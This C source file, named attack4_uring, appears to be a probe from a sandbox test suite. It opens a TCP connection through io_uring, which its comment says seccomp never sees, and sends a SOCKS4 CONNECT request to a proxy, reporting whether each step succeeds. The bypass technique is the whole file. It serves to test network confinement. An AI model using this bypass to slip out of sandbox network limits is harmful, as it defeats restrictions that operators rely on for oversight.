/* attack4_uring: an io_uring connect (IORING_OP_CONNECT, never seen by
 * seccomp) to HOST4:PORT, then a SOCKS4 CONNECT request by address
 * (192.0.2.1:80, user "x") written with IORING_OP_SEND.
 *
 *   attack4_uring HOST4 PORT
 *
 * Prints "setup: ok", "uring-connect: ok", "uring-send: ok" or
 * "STEP: errno=N"; exit status 0 when every step succeeded, 1 otherwise.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <liburing.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int run_one(struct io_uring *ring) {
    int r = io_uring_submit(ring);
    if (r < 0)
        return r;
    struct io_uring_cqe *cqe;
    r = io_uring_wait_cqe(ring, &cqe);
    if (r < 0)
        return r;
    int res = cqe->res;
    io_uring_cqe_seen(ring, cqe);
    return res;
}

static int step(const char *what, int r) {
    if (r < 0) {
        printf("%s: errno=%d\n", what, -r);
        return 1;
    }
    printf("%s: ok\n", what);
    fflush(stdout);
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: attack4_uring HOST4 PORT\n");
        return 2;
    }
    struct sockaddr_in sin;
    memset(&sin, 0, sizeof(sin));
    sin.sin_family = AF_INET;
    sin.sin_port = htons((unsigned short)atoi(argv[2]));
    if (inet_pton(AF_INET, argv[1], &sin.sin_addr) != 1)
        return 2;
    struct io_uring ring;
    if (step("setup", io_uring_queue_init(8, &ring, 0)))
        return 1;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
    io_uring_prep_connect(sqe, fd, (struct sockaddr *)&sin, sizeof(sin));
    if (step("uring-connect", run_one(&ring)))
        return 1;
    static const char socks4[] = {4, 1, 0, 80, (char)192, 0, 2, 1, 'x', 0};
    sqe = io_uring_get_sqe(&ring);
    io_uring_prep_send(sqe, fd, socks4, sizeof(socks4), MSG_NOSIGNAL);
    if (step("uring-send", run_one(&ring)))
        return 1;
    /* Let the peer read it before the close. */
    usleep(200000);
    return 0;
}
